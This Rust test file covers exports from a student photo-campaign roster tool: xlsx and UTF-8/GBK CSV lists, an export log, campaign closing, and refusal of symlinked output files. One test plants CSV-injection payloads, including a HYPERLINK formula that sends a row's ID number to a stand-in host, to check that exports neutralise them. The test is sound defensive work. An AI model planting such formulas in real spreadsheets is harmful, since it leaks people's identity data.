//! Final lists on real files: a demo campaign re-imported (3 students withdrawn, new ones
//! with leading-zero 学号 and an X check digit), progress recorded through the CLI, the
//! lists exported to .xlsx (read back with calamine) and CSV in UTF-8 and GBK
//! (byte-checked), the export log, saved columns, and closing/reopening the campaign.

mod common;
use common::{json, ok, rollcall, user_error};

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use calamine::{open_workbook_auto, Data, Reader};
use rollcall::campaign::CampaignId;
use rollcall::demo::{self, DemoOptions};
use rollcall::roster::{id_number, ineligibility, Student, StudentNo};
use rust_xlsxwriter::Workbook;

const OPTS: DemoOptions = DemoOptions {
    students: 300,
    seed: 11,
    as_published: false,
};
const AFTER_DEADLINE: &str = "2025-10-01";

/// A valid ID number from 17 digits; with `want_x`, the sequence is moved until the
/// check character is X.
fn id_from(prefix14: &str, want_x: bool) -> String {
    for seq in 100..1000 {
        let first17 = format!("{prefix14}{seq}");
        let check = id_number::check_char(&first17).unwrap();
        if !want_x || check == 'X' {
            return format!("{first17}{check}");
        }
    }
    unreachable!("some sequence gives X")
}

const HEADERS: [&str; 15] = [
    "学号",
    "姓名",
    "性别",
    "身份证号",
    "学院",
    "专业",
    "班级",
    "年级",
    "学制",
    "层次",
    "校区",
    "教学点",
    "学籍状态",
    "预计毕业年份",
    "辅导员",
];

fn write_roster(path: &Path, students: &[Student]) {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    for (c, h) in HEADERS.iter().enumerate() {
        sheet.write_string(0, c as u16, *h).unwrap();
    }
    for (r, s) in students.iter().enumerate() {
        let num = |n: Option<i32>| n.map(|n| n.to_string()).unwrap_or_default();
        let cells = [
            s.student_no.to_string(),
            s.name.clone(),
            s.gender.map(|g| g.as_str().to_string()).unwrap_or_default(),
            s.id_number.clone().unwrap_or_default(),
            s.college.clone(),
            s.major.clone(),
            s.class_name.clone(),
            num(s.intake_year),
            num(s.duration_years),
            s.level.clone(),
            s.campus.clone(),
            s.site.clone(),
            s.enrolment_status.clone(),
            num(s.grad_year),
            s.counselor.clone(),
        ];
        for (c, cell) in cells.iter().enumerate() {
            if !cell.is_empty() {
                sheet.write_string(r as u32 + 1, c as u16, cell).unwrap();
            }
        }
    }
    book.save(path).unwrap();
}

struct Env {
    _dir: tempfile::TempDir,
    root: PathBuf,
    db: PathBuf,
    /// The roster as re-imported (withdrawn ones not in it).
    roster: Vec<Student>,
    withdrawn: Vec<String>,
}

impl Env {
    fn cli(&self, args: &[&str]) -> Output {
        rollcall(&self.db, args)
    }

    fn path(&self, name: &str) -> String {
        self.root.join(name).display().to_string()
    }

    fn record(&self, nos: &[&str], kind: &str, date: &str) {
        let mut args = vec!["record", "add"];
        args.extend_from_slice(nos);
        args.extend_from_slice(&["--kind", kind, "--date", date, "--json"]);
        let r = json(&self.cli(&args));
        assert_eq!(r["recorded"].as_array().unwrap().len(), nos.len(), "{r}");
    }
}

/// Demo of 300; re-imported without its first three eligible students (withdrawn) and
/// with three new ones: 020250001 (ID ending in X), 020250002, and 020250003 named with
/// a character GBK lacks.
fn setup() -> Env {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().to_path_buf();
    let db = root.join("e.sqlite3");
    ok(&rollcall(
        &db,
        &["demo", "--reference", "--students", "300", "--seed", "11"],
    ));
    let mut roster = demo::generate_roster(OPTS);
    let eligible: Vec<usize> = (0..roster.len())
        .filter(|&i| ineligibility(&roster[i], 2025).is_none())
        .collect();
    let withdrawn: Vec<String> = eligible[..3]
        .iter()
        .map(|&i| roster[i].student_no.to_string())
        .collect();
    let template = roster[eligible[10]].clone();
    roster.retain(|s| !withdrawn.contains(&s.student_no.to_string()));
    let new = [
        ("020250001", "欧阳晓", id_from("44060220030101", true)),
        ("020250002", "李四", id_from("44060220030202", false)),
        ("020250003", "王𠮷", id_from("44060220030303", false)),
    ];
    for (no, name, id) in new {
        let mut s = template.clone();
        s.student_no = StudentNo::new(no).unwrap();
        s.name = name.into();
        s.gender = id_number::validate(&id).ok().map(|i| i.gender);
        s.id_number = Some(id);
        roster.push(s);
    }
    let file = root.join("名单.xlsx");
    write_roster(&file, &roster);
    let r = json(&rollcall(
        &db,
        &["roster", "import", file.to_str().unwrap(), "--json"],
    ));
    assert_eq!(r["withdrawn"], 3, "{r}");
    assert_eq!(r["added"], 3, "{r}");
    Env {
        _dir: dir,
        root,
        db,
        roster,
        withdrawn,
    }
}

fn eligible_nos(env: &Env) -> Vec<String> {
    let mut v: Vec<String> = env
        .roster
        .iter()
        .filter(|s| ineligibility(s, 2025).is_none())
        .map(|s| s.student_no.to_string())
        .filter(|n| !n.starts_with("02025"))
        .collect();
    v.sort();
    v
}

fn read_xlsx(path: &str) -> (String, Vec<Vec<Data>>) {
    let mut book = open_workbook_auto(path).unwrap();
    let name = book.sheet_names()[0].clone();
    let range = book.worksheet_range(&name).unwrap();
    (name, range.rows().map(|r| r.to_vec()).collect())
}

fn text(cell: &Data) -> &str {
    match cell {
        Data::String(s) => s,
        Data::Empty => "",
        other => panic!("expected a text cell, found {other:?}"),
    }
}

#[test]
fn lists_read_back_add_up_to_the_roster_and_every_export_is_logged() {
    let env = setup();
    let nos = eligible_nos(&env);
    let n = |i: usize| nos[i].as_str();
    // Photos: 3 on site (one verified later), 2 online, 1 walk-in, and 020250001.
    env.record(&[n(0), n(1), n(2), n(3), n(4)], "paid", "2025-04-20");
    env.record(
        &[n(0), n(1), n(2), "020250001"],
        "photographed",
        "2025-04-28",
    );
    env.record(&[n(0)], "verified", "2025-06-10");
    env.record(&[n(5), n(6)], "online-submitted", "2025-05-08");
    env.record(&[n(5), n(6)], "online-approved", "2025-05-10");
    env.record(&[n(7)], "walk-in-done", "2025-07-01");
    // Not photographed: paid (n3, n4), submitted but never approved (n8).
    env.record(&[n(8)], "online-submitted", "2025-05-09");

    // Final list as .xlsx, after the final deadline.
    let f = env.path("制证名单.xlsx");
    let out = json(&env.cli(&[
        "export",
        "final",
        "--out",
        &f,
        "--today",
        AFTER_DEADLINE,
        "--json",
    ]));
    let summary = &out["summary"];
    let roster_total = env.roster.len() as i64 + 3;
    assert_eq!(summary["roster"], roster_total);
    assert_eq!(summary["withdrawn"], 3);
    let sum: i64 = ["final", "excluded", "withdrawn", "ineligible"]
        .iter()
        .map(|k| summary[k].as_i64().unwrap())
        .sum();
    assert_eq!(sum, roster_total, "{summary}");
    assert_eq!(summary["final"], 7);
    assert_eq!(
        summary["ineligible"].as_i64().unwrap(),
        env.roster
            .iter()
            .filter(|s| ineligibility(s, 2025).is_some())
            .count() as i64
    );

    let (sheet, rows) = read_xlsx(&f);
    assert_eq!(sheet, "制证名单");
    assert!(text(&rows[0][0]).contains("2025届") && text(&rows[0][0]).contains("导出时间"));
    assert!(
        text(&rows[1][0]).contains("已退出 3 人"),
        "{:?}",
        rows[1][0]
    );
    let header: Vec<&str> = rows[2].iter().map(text).collect();
    assert_eq!(
        header.join(","),
        "学号,姓名,性别,身份证号,学院,专业,班级,层次,学制,院校代码,采集方式,完成日期,已核对"
    );
    // Header frozen under the title rows, widths set (the sheet XML, as Excel reads it).
    let xml = Command::new("unzip")
        .args(["-p", &f, "xl/worksheets/sheet1.xml"])
        .output()
        .expect("unzip");
    let xml = String::from_utf8(xml.stdout).unwrap();
    assert!(xml
        .contains(r#"<pane ySplit="3" topLeftCell="A4" activePane="bottomLeft" state="frozen"/>"#));
    assert!(xml.contains("<cols><col ") && xml.contains(r#"customWidth="1""#));
    let data = &rows[3..];
    assert_eq!(data.len(), 7);
    let by_no = |no: &str| {
        data.iter()
            .find(|r| text(&r[0]) == no)
            .unwrap_or_else(|| panic!("{no} not in the final list"))
    };
    // 学号 and ID numbers are text cells, leading zeros and X intact.
    let x = by_no("020250001");
    let x_id = env
        .roster
        .iter()
        .find(|s| s.student_no.as_str() == "020250001")
        .unwrap();
    assert_eq!(text(&x[3]), x_id.id_number.as_deref().unwrap());
    assert!(text(&x[3]).ends_with('X'));
    for r in data {
        assert!(
            matches!(r[0], Data::String(_)) && matches!(r[3], Data::String(_)),
            "{r:?}"
        );
        assert_eq!(text(&r[3]).len(), 18);
        assert_eq!(text(&r[9]), "12736");
    }
    assert_eq!(text(&by_no(n(0))[10]), "线下集采");
    assert_eq!(text(&by_no(n(0))[11]), "2025-04-28");
    assert_eq!(text(&by_no(n(0))[12]), "2025-06-10");
    assert_eq!(text(&by_no(n(1))[12]), "否");
    assert_eq!(text(&by_no(n(5))[10]), "线上集采");
    assert_eq!(text(&by_no(n(7))[10]), "散拍");
    assert_eq!(text(&by_no(n(7))[11]), "2025-07-01");
    for w in &env.withdrawn {
        assert!(data.iter().all(|r| text(&r[0]) != w));
    }

    // Excluded list as UTF-8 CSV with BOM.
    let e = env.path("不予制证.csv");
    let out = json(&env.cli(&[
        "export",
        "excluded",
        "--out",
        &e,
        "--today",
        AFTER_DEADLINE,
        "--json",
    ]));
    assert_eq!(out["summary"]["excluded"], summary["excluded"]);
    let bytes = std::fs::read(&e).unwrap();
    assert_eq!(&bytes[..3], b"\xEF\xBB\xBF");
    let mut reader = csv::Reader::from_reader(&bytes[3..]);
    let head: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(
        head.join(","),
        "学号,姓名,性别,学院,专业,班级,辅导员,原因,说明"
    );
    let recs: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(recs.len() as i64, summary["excluded"].as_i64().unwrap());
    let reason = |no: &str| {
        recs.iter()
            .find(|r| &r[0] == no)
            .map(|r| r[7].to_string())
            .unwrap_or_else(|| panic!("{no} not excluded"))
    };
    assert_eq!(reason(n(3)), "错过线下与线上集采，未完成散拍");
    assert_eq!(reason(n(8)), "照片已提交但未审核通过");
    assert_eq!(reason(n(9)), "未缴费，未参加任何采集");
    assert_eq!(reason("020250002"), "未缴费，未参加任何采集");
    assert!(
        recs.iter().all(|r| !r[6].is_empty()),
        "every row names the counselor"
    );

    // The excluded list holds 王𠮷: GBK cannot, and says where.
    let g = env.path("不予制证-gbk.csv");
    let err = user_error(&env.cli(&["export", "excluded", "--out", &g, "--encoding", "gbk"]));
    assert!(
        err.contains("𠮷") && err.contains("姓名") && err.contains("UTF-8"),
        "{err}"
    );

    // Final list as GBK CSV: same text as the UTF-8 file, GBK bytes, no BOM.
    let fu = env.path("制证-utf8.csv");
    let fg = env.path("制证-gbk.csv");
    ok(&env.cli(&["export", "final", "--out", &fu, "--today", AFTER_DEADLINE]));
    ok(&env.cli(&[
        "export",
        "final",
        "--out",
        &fg,
        "--today",
        AFTER_DEADLINE,
        "--encoding",
        "gbk",
    ]));
    let utf8 = std::fs::read(&fu).unwrap();
    let gbk = std::fs::read(&fg).unwrap();
    assert_eq!(&gbk[..4], &[0xD1, 0xA7, 0xBA, 0xC5], "学号 in GBK");
    let (decoded, _, bad) = encoding_rs::GBK.decode(&gbk);
    assert!(!bad);
    assert_eq!(decoded.as_bytes(), &utf8[3..]);
    assert!(decoded.contains("020250001,欧阳晓"));

    // Columns chosen and saved for the excluded list, then used by default.
    let e2 = env.path("不予制证-班级.xlsx");
    ok(&env.cli(&[
        "export",
        "excluded",
        "--out",
        &e2,
        "--columns",
        "班级,学号,姓名,原因",
        "--save-columns",
    ]));
    let e3 = env.path("不予制证-默认.csv");
    ok(&env.cli(&[
        "export",
        "excluded",
        "--out",
        &e3,
        "--today",
        AFTER_DEADLINE,
    ]));
    let first_line = String::from_utf8(std::fs::read(&e3).unwrap()).unwrap();
    assert!(
        first_line.starts_with("\u{feff}班级,学号,姓名,原因\r\n"),
        "{first_line:.40}"
    );
    let err = user_error(&env.cli(&["export", "final", "--out", &e3, "--columns", "学号,原因"]));
    assert!(err.contains("原因") && err.contains("可选的列"), "{err}");
    let err = user_error(&env.cli(&["export", "final", "--out", &env.path("x.pdf")]));
    assert!(err.contains(".xlsx"), "{err}");

    // The log: every file, newest first, with rows and whether it carries ID numbers.
    let log = json(&env.cli(&["export", "log", "--json"]));
    let entries = log["exports"].as_array().unwrap();
    assert_eq!(entries.len(), 6, "the failed GBK export is not logged");
    let last = &entries[0];
    assert_eq!(last["file_name"], e3);
    assert_eq!(last["list"], "excluded");
    assert_eq!(last["has_id_numbers"], false);
    let first = entries.last().unwrap();
    assert_eq!(first["file_name"], f);
    assert_eq!(first["format"], "xlsx");
    assert_eq!(first["rows"], 7);
    assert_eq!(first["has_id_numbers"], true);
    assert_eq!(first["as_of"], AFTER_DEADLINE);
    let gbk_entry = entries.iter().find(|e| e["file_name"] == fg).unwrap();
    assert_eq!(gbk_entry["encoding"], "gbk");
    let table = ok(&env.cli(&["export", "log"]));
    assert!(table.contains("制证名单") && table.contains("含身份证号"));
}

#[test]
fn a_closed_campaign_exports_its_frozen_lists_and_refuses_edits_until_reopened() {
    let env = setup();
    let nos = eligible_nos(&env);
    env.record(&[&nos[0], &nos[1]], "photographed", "2025-04-28");

    // Without --yes nothing happens.
    let err = user_error(&env.cli(&["campaign", "close", "--today", AFTER_DEADLINE]));
    assert!(err.contains("--yes"), "{err}");
    env.record(&[&nos[2]], "photographed", "2025-04-29");

    let closing = json(&env.cli(&[
        "campaign",
        "close",
        "--yes",
        "--today",
        AFTER_DEADLINE,
        "--json",
    ]));
    assert_eq!(closing["summary"]["final"], 3);
    assert!(closing["reopened_at"].is_null());

    // Writes are refused with a message that says how to reopen.
    let err = user_error(&env.cli(&[
        "record",
        "add",
        &nos[3],
        "--kind",
        "walk-in-done",
        "--date",
        "2025-09-01",
    ]));
    assert!(
        err.contains("关闭") && err.contains("campaign reopen"),
        "{err}"
    );
    let file = env.root.join("名单.xlsx");
    let err = user_error(&env.cli(&["roster", "import", file.to_str().unwrap()]));
    assert!(err.contains("关闭"), "{err}");
    // The refusal lives in the core, so every writer says the same.
    for args in [
        vec!["plan"],
        vec!["check-in", nos[3].as_str(), "--date", "2025-04-28"],
        vec!["schedule", "undo"],
    ] {
        let err = user_error(&env.cli(&args));
        assert!(err.contains("关闭"), "{args:?}: {err}");
    }
    let mut store = rollcall::store::Store::open(&env.db).unwrap();
    let c = rollcall::campaign::resolve(store.conn(), None).unwrap();
    let err = rollcall::campaign::update_facts(store.conn(), c.id, &c.facts).unwrap_err();
    assert!(err.to_string().contains("关闭"), "{err}");
    let err =
        rollcall::plan::plan_and_save(store.conn_mut(), c.id, &rollcall::store::Clock::system())
            .unwrap_err();
    assert!(
        err.is_user_error() && err.to_string().contains("关闭"),
        "{err}"
    );
    drop(store);
    let err = user_error(&env.cli(&["campaign", "close", "--yes"]));
    assert!(err.contains("无需再次关闭"), "{err}");

    // Exports give the frozen list, whatever day is asked for.
    let f = env.path("frozen.csv");
    let out = json(&env.cli(&[
        "export",
        "final",
        "--out",
        &f,
        "--today",
        "2025-05-01",
        "--json",
    ]));
    assert_eq!(out["entry"]["rows"], 3);
    assert_eq!(out["entry"]["frozen"], true);
    assert_eq!(out["entry"]["as_of"], AFTER_DEADLINE);

    // Reopen (recorded), edit, and the lists are live again.
    user_error(&env.cli(&["campaign", "reopen"]));
    let reopened = json(&env.cli(&["campaign", "reopen", "--yes", "--json"]));
    assert!(reopened["reopened_at"].is_string());
    env.record(&[&nos[3]], "walk-in-done", "2025-09-01");
    let out = json(&env.cli(&[
        "export",
        "final",
        "--out",
        &f,
        "--today",
        AFTER_DEADLINE,
        "--json",
    ]));
    assert_eq!(out["entry"]["rows"], 4);
    assert_eq!(out["entry"]["frozen"], false);
    let err = user_error(&env.cli(&["campaign", "reopen", "--yes"]));
    assert!(err.contains("没有关闭"), "{err}");

    // The closing stays in the database, with its frozen rows, after reopening.
    let store = rollcall::store::Store::open(&env.db).unwrap();
    let history = rollcall::export::close::history(store.conn(), CampaignId(1)).unwrap();
    assert_eq!(history.len(), 1);
    let frozen = rollcall::export::close::frozen_lists(store.conn(), &history[0]).unwrap();
    assert_eq!(frozen.final_rows.len(), 3);
    assert_eq!(frozen.summary.final_count, 3);
}

/// The cells of a UTF-8 (BOM) or GBK CSV export, header first.
fn read_csv(path: &str) -> Vec<Vec<String>> {
    let bytes = std::fs::read(path).unwrap();
    let text = match bytes.strip_prefix(b"\xEF\xBB\xBF") {
        Some(rest) => String::from_utf8(rest.to_vec()).unwrap(),
        None => {
            let (text, _, bad) = encoding_rs::GBK.decode(&bytes);
            assert!(!bad);
            text.into_owned()
        }
    };
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect()
}

/// A name or class starting with = + - @ tab or CR would be a formula in Excel/WPS
/// (`=HYPERLINK("http://…?"&D4, …)` sends the row's ID number away with one click):
/// every CSV export writes such a cell with an apostrophe in front (the OWASP rule),
/// phones and negative numbers included; other cells are untouched.
#[test]
fn csv_exports_write_formula_like_cells_as_text() {
    let env = setup();
    let nos = eligible_nos(&env);
    let (done, missing) = (nos[0].as_str(), nos[1].as_str());
    let link = r#"=HYPERLINK("http://x.example/?"&D4,"点我")"#;
    let conn = rusqlite::Connection::open(&env.db).unwrap();
    let set = |no: &str, column: &str, value: &str| {
        let n = conn
            .execute(
                &format!("UPDATE student SET {column} = ?1 WHERE student_no = ?2"),
                (value, no),
            )
            .unwrap();
        assert_eq!(n, 1);
    };
    set(done, "name", link);
    set(done, "class_name", "+8613800000000");
    set(done, "college", "@SUM(A1)");
    set(done, "major", "-5");
    set(missing, "name", "\t=1+1");
    set(missing, "class_name", "\r=1+1");
    set(missing, "counselor", "-1");
    set(missing, "major", "=1+1");
    drop(conn);
    env.record(&[done], "photographed", "2025-04-28");

    let f_utf8 = env.path("制证.csv");
    let f_gbk = env.path("制证-gbk.csv");
    let e_utf8 = env.path("不予制证.csv");
    for (list, path, encoding) in [
        ("final", &f_utf8, "utf8"),
        ("final", &f_gbk, "gbk"),
        ("excluded", &e_utf8, "utf8"),
    ] {
        ok(&env.cli(&[
            "export",
            list,
            "--out",
            path,
            "--today",
            AFTER_DEADLINE,
            "--encoding",
            encoding,
        ]));
    }
    for path in [&f_utf8, &f_gbk] {
        let rows = read_csv(path);
        let row = rows
            .iter()
            .find(|r| r[0] == done)
            .expect("in the final list");
        assert_eq!(row[1], format!("'{link}"), "{path}");
        assert_eq!(row[4], "'@SUM(A1)");
        assert_eq!(row[5], "'-5");
        assert_eq!(row[6], "'+8613800000000");
        assert_eq!(row[11], "2025-04-28", "a date is not a formula");
        for r in &rows {
            for cell in r {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{path}: {cell:?} in {r:?}"
                );
            }
        }
    }
    let rows = read_csv(&e_utf8);
    assert_eq!(
        rows[0].join(","),
        "学号,姓名,性别,学院,专业,班级,辅导员,原因,说明"
    );
    let row = rows.iter().find(|r| r[0] == missing).expect("excluded");
    assert_eq!(row[1], "'\t=1+1");
    assert_eq!(row[4], "'=1+1");
    assert_eq!(row[5], "'\r=1+1");
    assert_eq!(row[6], "'-1");
    for r in &rows {
        for cell in r {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} in {r:?}"
            );
        }
    }
}

/// Exports are written whole and renamed into place: a symbolic link at the file name or
/// at the temporary name beside it is refused with a message, never followed (the link
/// could point at the database); a list with ID numbers is created 0600, like the DB.
#[cfg(unix)]
#[test]
fn exports_refuse_symlinks_and_lists_with_id_numbers_are_private() {
    use std::os::unix::fs::{symlink, PermissionsExt};
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("e.sqlite3");
    ok(&rollcall(
        &db,
        &["demo", "--reference", "--students", "100"],
    ));
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    let export = |list: &str, out: &Path, extra: &[&str]| {
        let mut args = vec!["export", list, "--out", out.to_str().unwrap()];
        args.extend_from_slice(extra);
        rollcall(&db, &args)
    };

    // ID numbers: 0600, also over an existing world-readable file; without: not forced.
    for name in ["制证.xlsx", "制证.csv"] {
        let out = dir.path().join(name);
        std::fs::write(&out, b"old").unwrap();
        std::fs::set_permissions(&out, std::fs::Permissions::from_mode(0o644)).unwrap();
        ok(&export("final", &out, &[]));
        assert_eq!(mode(&out), 0o600, "{name}");
    }
    let out = dir.path().join("不予制证.csv");
    ok(&export("excluded", &out, &[]));
    assert_ne!(mode(&out), 0o600, "no ID numbers, no need");

    // A link at the target or at the temporary name (pointing at a file of the user's):
    // refused, the file untouched.
    let victim = dir.path().join("other.txt");
    std::fs::write(&victim, b"precious").unwrap();
    for name in ["链接.csv", "链接.xlsx"] {
        let out = dir.path().join(name);
        symlink(&victim, &out).unwrap();
        let err = user_error(&export("final", &out, &[]));
        assert!(err.contains("符号链接"), "{err}");
        std::fs::remove_file(&out).unwrap();
        let tmp = dir.path().join(format!(".{name}.rollcall-part"));
        symlink(&victim, &tmp).unwrap();
        let err = user_error(&export("final", &out, &[]));
        assert!(err.contains("符号链接"), "{err}");
        assert!(!out.exists());
        std::fs::remove_file(&tmp).unwrap();
    }
    assert_eq!(std::fs::read(&victim).unwrap(), b"precious");
}
